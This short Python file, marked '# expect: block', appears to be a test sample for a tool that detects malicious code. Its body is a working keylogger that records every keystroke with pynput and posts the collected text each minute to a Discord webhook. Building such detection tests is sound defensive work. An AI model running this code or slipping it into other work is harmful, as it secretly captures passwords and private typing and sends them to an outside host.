# expect: block
import threading
import time

import requests
from pynput import keyboard

buf = []


def on_press(key):
    buf.append(getattr(key, "char", None) or f"<{key}>")


def flush():
    while True:
        time.sleep(60)
        if buf:
            requests.post("https://discord.com/api/webhooks/1/x", json={"content": "".join(buf)}, timeout=5)
            buf.clear()


threading.Thread(target=flush, daemon=True).start()
with keyboard.Listener(on_press=on_press) as listener:
    listener.join()
